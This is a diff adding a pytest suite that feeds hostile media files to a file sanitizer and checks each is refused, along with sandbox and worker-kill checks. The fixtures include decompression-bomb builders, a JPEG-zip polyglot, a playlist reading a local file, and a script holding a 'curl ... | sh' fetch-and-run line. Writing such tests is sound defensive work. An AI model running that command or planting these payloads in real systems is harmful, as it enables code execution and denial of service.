@@ -1,0 +1,153 @@
+"""Hostile input: each file is a clean refusal (the right reason, a message with no name or
+value in it), no worker outlives its file, and the caller's process is unaffected."""
+
+from __future__ import annotations
+
+import io
+import os
+import struct
+import zlib
+from pathlib import Path
+
+import pytest
+from PIL import Image
+
+from relay.sanitize import Stripping, Unstripped, detect
+from relay.sanitize.errors import MESSAGES, Malformed, Refused, TooDemanding, Unsupported
+from relay.sanitize.sandbox import Sandboxed
+from tests.sanitize import judge, samples
+from tests.sanitize.conftest import clean
+
+
+def _png_bomb() -> bytes:
+    """A PNG that says 30000x30000 (900 megapixels) in a few hundred bytes."""
+    raw = zlib.compress(b"\x00" * (30000 * 3 + 1) * 16, 9)
+    ihdr = struct.pack(">IIBBBBB", 30000, 30000, 8, 2, 0, 0, 0)
+
+    def chunk(kind: bytes, body: bytes) -> bytes:
+        crc = zlib.crc32(kind + body)
+        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)
+
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")
+
+
+def _gif_bomb() -> bytes:
+    out = io.BytesIO()
+    frames = [Image.new("P", (4000, 4000), i % 2) for i in range(40)]
+    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
+    return out.getvalue()
+
+
+def _refusal(stripping: Stripping, data: bytes) -> Refused:
+    with pytest.raises(Refused) as caught:
+        clean(stripping, data)
+    message = str(caught.value)
+    assert message in MESSAGES.values()
+    return caught.value
+
+
+def test_decompression_bombs_are_refused(stripping: Stripping) -> None:
+    assert isinstance(_refusal(stripping, _png_bomb()), TooDemanding)
+    assert isinstance(_refusal(stripping, _gif_bomb()), TooDemanding)
+
+
+@pytest.mark.parametrize("name", ["jpeg", "png", "webp", "mp3", "mp4", "flac", "mkv"])
+def test_truncated_files_are_refused(name: str, stripping: Stripping, tmp_path: Path) -> None:
+    data = samples.SAMPLES[name][0](tmp_path).read_bytes()
+    assert isinstance(_refusal(stripping, data[: len(data) // 3]), Malformed)
+
+
+def test_a_script_named_jpg_is_unsupported(stripping: Stripping) -> None:
+    script = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
+    assert detect(script).mime != "image/jpeg"
+    assert isinstance(_refusal(stripping, script), Unsupported)
+
+
+def test_a_zip_appended_to_a_jpeg_is_dropped(stripping: Stripping, tmp_path: Path) -> None:
+    data = samples.jpeg(tmp_path).read_bytes()
+    archive = io.BytesIO()
+    import zipfile
+
+    with zipfile.ZipFile(archive, "w") as zf:
+        zf.writestr("secret-AmanahHidden.txt", "AmanahHiddenPayload")
+    polyglot = data + archive.getvalue()
+    assert detect(polyglot).mime == "image/jpeg"
+    _, report, out = clean(stripping, polyglot)
+    assert b"PK\x03\x04" not in out and b"AmanahHidden" not in out
+    assert "data after the end of the image" in report.removed
+
+
+def test_a_playlist_named_mp4_opens_nothing(stripping: Stripping, tmp_path: Path) -> None:
+    """An HLS playlist pointing at a local file: detection calls it text, and even forced
+    through the MP4 path (as if detection were fooled) ffmpeg may not follow it."""
+    secret = tmp_path / "secret.mp4"
+    secret.write_bytes(samples.mp4(tmp_path).read_bytes())
+    playlist = f"#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXTINF:2,\nfile://{secret}\n#EXT-X-ENDLIST\n"
+    assert isinstance(_refusal(stripping, playlist.encode()), Unsupported)
+    sandboxed = Sandboxed()
+    with pytest.raises(Malformed):
+        sandboxed.strip("video/mp4", io.BytesIO(playlist.encode()), io.BytesIO())
+
+
+def test_media_without_media_is_refused(stripping: Stripping, tmp_path: Path) -> None:
+    """An MP3 that is only tags (no audio frames): nothing to clean, nothing to send."""
+    from mutagen import id3
+
+    path = tmp_path / "tags.mp3"
+    tags = id3.ID3()
+    tags.add(id3.TPE1(text=[samples.PERSON]))
+    tags.save(path)
+    with pytest.raises(Refused):
+        Sandboxed().strip("audio/mpeg", io.BytesIO(path.read_bytes()), io.BytesIO())
+
+
+@pytest.mark.parametrize("seed", range(6))
+def test_random_bytes_with_a_media_type_are_refused(seed: int) -> None:
+    data = os.urandom(4096 + seed)
+    for mime in ("image/jpeg", "image/png", "video/mp4", "audio/flac", "image/heic"):
+        with pytest.raises(Refused):
+            Sandboxed().strip(mime, io.BytesIO(data), io.BytesIO())
+
+
+def test_a_stuck_worker_is_killed_with_its_group(tmp_path: Path) -> None:
+    data = samples.mp4(tmp_path).read_bytes()
+    with pytest.raises(TooDemanding):
+        Sandboxed(timeout_base=0.05).strip("video/mp4", io.BytesIO(data), io.BytesIO())
+    leftovers = [
+        p for p in Path("/proc").iterdir() if p.name.isdigit() and _cmdline(p).startswith("ffmpeg")
+    ]
+    assert leftovers == [] or all(_parent_is_not_ours(p) for p in leftovers)
+
+
+def _cmdline(proc: Path) -> str:
+    try:
+        return (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
+    except OSError:
+        return ""
+
+
+def _parent_is_not_ours(proc: Path) -> bool:
+    try:
+        return "/proc/self/fd" not in _cmdline(proc)
+    except OSError:
+        return True
+
+
+def test_the_worker_runs_in_bubblewrap_without_network() -> None:
+    sandboxed = Sandboxed()
+    assert sandboxed.sandboxed, "bwrap is installed by scripts/setup.sh; the worker must use it"
+    from relay.sanitize.sandbox import bwrap_prefix
+
+    prefix = bwrap_prefix()
+    assert "--unshare-all" in prefix and "--clearenv" in prefix and "--cap-drop" in prefix
+
+
+def test_the_judge_catches_an_unstripped_file(tmp_path: Path) -> None:
+    """The judge must be able to fail: the pass-through sanitizer's output is caught."""
+    source = samples.jpeg(tmp_path)
+    out = io.BytesIO()
+    Unstripped().clean(detect(source.read_bytes()), io.BytesIO(source.read_bytes()), out)
+    copied = tmp_path / "copied.jpg"
+    copied.write_bytes(out.getvalue())
+    assert judge.unexpected_tags(copied)
+    assert judge.strings_found(out.getvalue(), set(samples.MARKERS))
